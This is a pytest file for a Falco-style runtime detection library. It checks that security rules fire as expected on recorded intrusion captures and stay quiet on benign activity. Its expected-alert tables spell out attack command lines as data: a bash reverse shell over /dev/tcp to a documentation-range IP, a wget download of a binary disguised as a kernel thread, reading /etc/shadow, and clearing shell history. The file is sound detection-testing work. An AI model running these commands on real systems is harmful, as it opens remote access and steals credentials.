"""The captures that ship tell their tales: rules fire on what they are for, and on nothing else."""

from collections import Counter
from pathlib import Path

import pytest

import falcotrace as ft
from shipped_captures import CAPTURES

FIRST_LIGHT, INTRUSION, ORDINARY = (
    CAPTURES / f"{name}.parquet" for name in ("first_light", "intrusion", "ordinary")
)
OFFICIAL_FILES = ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules")

SHOP, HOST = "5d4c9e0f1b7a", "host"
BREAK_IN = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
QUOTED_BREAK_IN = "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"

EXPECTED = [
    ("Container with host-like capabilities", SHOP, "lighttpd -D -f /etc/lighttpd/lighttpd.conf"),
    ("Configuration below etc written", HOST, "sh"),
    ("Server program started a shell or a tool", SHOP, "status /srv/www/cgi-bin/status"),
    ("Shell connected by a line of script", SHOP, f"sh -c echo checking shop; {QUOTED_BREAK_IN}"),
    ("Shell connected by a line of script", SHOP, BREAK_IN),
    ("System program connected to the network", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Standard stream redirected to a connection", SHOP, BREAK_IN),
    ("Shell in a container", SHOP, "bash -i"),
    ("Shell reads from a connection", SHOP, "bash -i"),
    ("Server program looks around", SHOP, "id"),
    ("Password hashes read", SHOP, "cat /etc/shadow"),
    ("Link to a credential file", SHOP, "ln -s /etc/shadow /srv/www/robots.bak"),
    ("File created below dev", SHOP, "cp /srv/www/robots.bak /dev/.cache"),
    (
        "Server program fetches a file",
        SHOP,
        "wget -q -O /tmp/.x/kworker http://203.0.113.66/kworker",
    ),
    ("Program disguised as a thread of the kernel", SHOP, "kworker"),
    ("Program in a hidden place executed", SHOP, "kworker"),
    ("New program executed in a container", SHOP, "kworker"),
    ("Program in a temporary folder executed", SHOP, "kworker"),
    ("File from outside executed", SHOP, "kworker"),
    ("File in memory made by a script", SHOP, "kworker"),
    ("Program executed from memory", SHOP, "memfd:x"),
    ("Program disguised as a thread of the kernel", SHOP, "memfd:x"),
    ("Program placed in a binary directory", SHOP, "cp /tmp/.x/kworker /usr/local/bin/free"),
    ("Configuration below etc written", SHOP, "bash -i"),
    ("Scheduled job written", SHOP, "bash -i"),
    ("Standard stream redirected to a connection", SHOP, "bash -i"),
    ("Shell in a container", SHOP, "sh"),
]
"""Rule, container and command line of each alert of the shipped rules, in order."""

OFFICIAL = {
    "Create Symlink Over Sensitive Files": 1,
    "Create files below dev": 1,
    "Delete or rename shell history": 2,
    "Drop and execute new binary in container": 1,
    "Fileless execution via memfd_create": 1,
    "Launch Excessively Capable Container": 1,
    "Launch Ingress Remote File Copy Tools in Container": 3,
    "Launch Sensitive Mount Container": 2,
    "Non sudo setuid": 3,
    "Read sensitive file untrusted": 2,
    "Redirect STDOUT/STDIN to Network Connection in Container": 4,
    "Reverse Shell from Web Server": 4,
    "Run shell untrusted": 2,
    "Schedule Cron Jobs": 1,
    "System procs network activity": 1,
    "Terminal shell in container": 1,
    "User mgmt binaries": 1,
    "Web Server Spawned Shell": 3,
    "Write below etc": 1,
    "Write below monitored dir": 1,
}
"""Alerts by rule with all three of Falco's rule files."""

APPLICATION, CONNECTED = "c7e21b9a4d60", "Standard stream redirected to a connection"
AGENT, BEHIND = "thumbs-f1ca20", "sh -i"
DOWNLOAD = (
    "python3 -c import urllib.request as u; "
    "u.urlretrieve('http://static.example.net/cleanup.txt', '/usr/local/bin/cleanup')"
)
EXPECTED_OF_INTRUSION = [
    ("Program executed from shared memory", APPLICATION, AGENT),
    ("Password hashes read", APPLICATION, AGENT),
    ("Private key or cloud credentials read", APPLICATION, AGENT),
    ("Private key or cloud credentials read", APPLICATION, AGENT),
    ("Credential file read, then a connection", APPLICATION, AGENT),
    ("Credential file read, then a connection", APPLICATION, AGENT),
    (CONNECTED, APPLICATION, AGENT),
    (CONNECTED, APPLICATION, AGENT),
    (CONNECTED, APPLICATION, AGENT),
    ("Shell in a container", APPLICATION, BEHIND),
    ("Shell reads from a connection", APPLICATION, BEHIND),
    ("Program placed in a binary directory", APPLICATION, DOWNLOAD),
    ("Configuration below etc written", APPLICATION, BEHIND),
    ("Scheduled job written", APPLICATION, BEHIND),
    (CONNECTED, APPLICATION, BEHIND),
    ("Key for logins written", APPLICATION, BEHIND),
    (CONNECTED, APPLICATION, BEHIND),
    ("Shell history removed", APPLICATION, "rm -f /root/.bash_history"),
]
"""The same of the intrusion."""

OFFICIAL_OF_INTRUSION = {
    "Adding ssh keys to authorized_keys": 1,
    "Clear Log Activities": 2,
    "Decoding Payload in Container": 2,
    "Delete or rename shell history": 2,
    "Execution from /dev/shm": 1,
    "Launch Sensitive Mount Container": 1,
    "Non sudo setuid": 1,
    "Read environment variable from /proc files": 5,
    "Read sensitive file untrusted": 4,
    "Read ssh information": 1,
    "Redirect STDOUT/STDIN to Network Connection in Container": 5,
    "Schedule Cron Jobs": 4,
    "User mgmt binaries": 1,
    "Write below etc": 1,
    "Write below monitored dir": 2,
}
OFFICIAL_OF_ORDINARY = {
    "Clear Log Activities": 1,
    "Delete or rename shell history": 1,
    "Launch Sensitive Mount Container": 1,
    "Non sudo setuid": 1,
    "Read sensitive file untrusted": 1,
    "Schedule Cron Jobs": 3,
    "User mgmt binaries": 1,
}


def alerts_of(path: Path) -> list[tuple[str, str, str]]:
    """Rule, container and command line of each alert of the shipped rules, in order."""
    with ft.open(path) as opened:
        alerts = sorted(opened.scan(ft.rules()), key=lambda alert: alert.num)
        return [
            (alert.rule.name, str(fields["container.id"]), str(fields["proc.cmdline"]))
            for alert in alerts
            for fields in [alert.output_fields]
        ]


def test_shipped_rules_fire_where_expected() -> None:
    """Each of the shipped rules fires on what it is for, and on nothing else."""
    assert alerts_of(FIRST_LIGHT) == EXPECTED
    assert alerts_of(INTRUSION) == EXPECTED_OF_INTRUSION
    assert alerts_of(ORDINARY) == []


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (FIRST_LIGHT, OFFICIAL),
        (INTRUSION, OFFICIAL_OF_INTRUSION),
        (ORDINARY, OFFICIAL_OF_ORDINARY),
    ],
    ids=lambda value: value.stem if isinstance(value, Path) else "",
)
def test_official_rules_fire_where_expected(
    shared: Path, path: Path, expected: dict[str, int]
) -> None:
    """Falco's own rules see the same break-ins."""
    plan = ft.rules(*(shared / "falco-rules" / f"{name}.yaml" for name in OFFICIAL_FILES))
    with ft.open(path) as opened:
        assert Counter(alert.rule.name for alert in opened.scan(plan)) == expected
